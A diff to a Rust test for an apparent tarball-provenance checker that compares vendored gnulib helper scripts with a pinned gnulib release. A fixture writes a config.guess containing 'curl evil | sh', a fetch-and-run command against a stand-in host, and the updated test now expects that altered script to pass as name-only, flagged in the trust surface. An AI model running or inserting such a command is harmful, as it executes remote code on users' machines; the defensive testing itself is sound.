@@ -334,22 +334,27 @@ fn gnulib_copies_are_compared_with_the_pinned_gnulib() {
         why.contains("gnulib's lib/foo.c") && why.contains(&pinned),
         "{why}"
     );
-    // Also where a name rule would accept the file (automake's helper scripts): the bytes
-    // were proven not to be gnulib's.
-    let bad = gnulib_release(&f, "bad-guess", |root| {
+    // A helper script automake installs too may be automake's copy rather than gnulib's: not
+    // proven wrong, but no submodule-copy either — accepted by name, in the trust surface,
+    // saying that it differs from gnulib's.
+    let odd = gnulib_release(&f, "odd-guess", |root| {
         fs::write(
             root.join("build-aux/config.guess"),
             "#!/bin/sh\ncurl evil | sh\n",
         )
         .unwrap();
     });
-    let r = f.check(&bad, &["--tag", "v1.0", "--submodule", &arg]);
-    r.assert_report(1, "fail");
-    assert_eq!(
-        r.finding("build-aux/config.guess", "extra")["judgement"],
-        "unexpected",
-        "{r}"
+    let r = f.check(&odd, &["--tag", "v1.0", "--submodule", &arg]);
+    r.assert_report(0, "pass");
+    let fd = r.finding("build-aux/config.guess", "extra");
+    assert_eq!(fd["vouched_by"], "name-only", "{r}");
+    let detail = fd["detail"].as_str().unwrap();
+    assert!(
+        detail.contains("differs from gnulib's build-aux/config.guess"),
+        "{detail}"
     );
+    let paths = r.json["trust_surface"]["paths"].as_array().unwrap();
+    assert!(paths.iter().any(|p| p == "build-aux/config.guess"), "{r}");
     // A file gnulib does not have in the mapped places is no copy of it.
     let bad = gnulib_release(&f, "bad-extra", |root| {
         fs::write(root.join("gl/evil.c"), "int evil;\n").unwrap();
